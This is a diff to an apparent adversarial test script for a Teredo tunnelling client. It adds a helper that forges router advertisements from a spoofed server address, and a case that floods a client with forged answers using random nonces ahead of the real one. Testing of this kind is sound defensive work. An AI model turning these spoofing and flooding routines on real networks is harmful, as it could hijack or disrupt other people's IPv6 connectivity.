@@ -9,6 +9,7 @@ what they did are in attack.sh. Cases that see for themselves exit 1 with a text
 import os
 import random
 import re
+import select
 import socket
 import struct
 import sys
@@ -107,18 +108,36 @@ def solicitations(namespace, count):
     flood(namespace, make, (SERVER, 3544), int(count))
 
 
+def advertisement(prefix, dest=VISTA):
+    """Of a server, whose prefix that is"""
+    return icmp6("fe80::8000:f227:34ff:8efe", dest, RA, bytes(4) + struct.pack("!H", 65535) +
+                 bytes(6) + b"\3\4\x40\x40" + b"\xff" * 8 + bytes(4) + ip6(prefix), hops=255)
+
+
 def adverts(namespace, address, port, count):
     """As if from the server, to a client that is about to qualify, without its
     nonce and with guesses at it; they name a mapping of the attacker's"""
-    advert = icmp6("fe80::8000:f227:34ff:8efe", VISTA, RA, bytes(4) + struct.pack("!H", 65535) +
-                   bytes(6) + b"\3\4\x40\x40" + b"\xff" * 8 + bytes(4) +
-                   ip6("2001:0:cb00:7101::"), hops=255)
-    there = origin("192.0.2.77", 77)
+    tail = origin("192.0.2.77", 77) + advertisement("2001:0:cb00:7101::")
 
     def make():
         nonce = b"" if rng.randrange(2) else auth(os.urandom(8))
-        return nonce + there + advert, SERVER, 3544
+        return nonce + tail, SERVER, 3544
     flood(namespace, make, (address, int(port)), int(count))
+
+
+def answers_behind_others(namespace, count):
+    """A server whose answers each come behind so many in its name, without end"""
+    ports = {port.socket: port for port in (Port(namespace, "198.51.100.14", 3544),
+                                            Port(namespace, "198.51.100.30", 3544))}
+    print("ready", flush=True)
+    while True:
+        for ready in select.select(ports, [], [])[0]:
+            port = ports[ready]
+            asked = port.receive()
+            tail = origin(*asked.sender) + advertisement("2001:0:c633:640e::", asked.source)
+            for _ in range(int(count)):
+                port.send(auth(os.urandom(8)) + tail, asked.sender)
+            port.send(auth(asked.nonce) + tail, asked.sender)
 
 
 def bubbles_by_server(namespace, address, port, victim, count):
@@ -420,7 +439,7 @@ def tcp_ask(address):
 
 
 CASES = (teredo_echoes, teredo_bubbles, native_strangers, solicitations, adverts,
-         bubbles_by_server, nonces, relay_nonces, from_elsewhere, to_relay, walk,
+         answers_behind_others, bubbles_by_server, nonces, relay_nonces, from_elsewhere, to_relay, walk,
          bubble_sources, fill_queue, echoes_for_clients, echo_service, privileges,
          port_is_taken, tcp_serve, tcp_ask)
 {case.__name__: case for case in CASES}[sys.argv[1]](*sys.argv[2:])
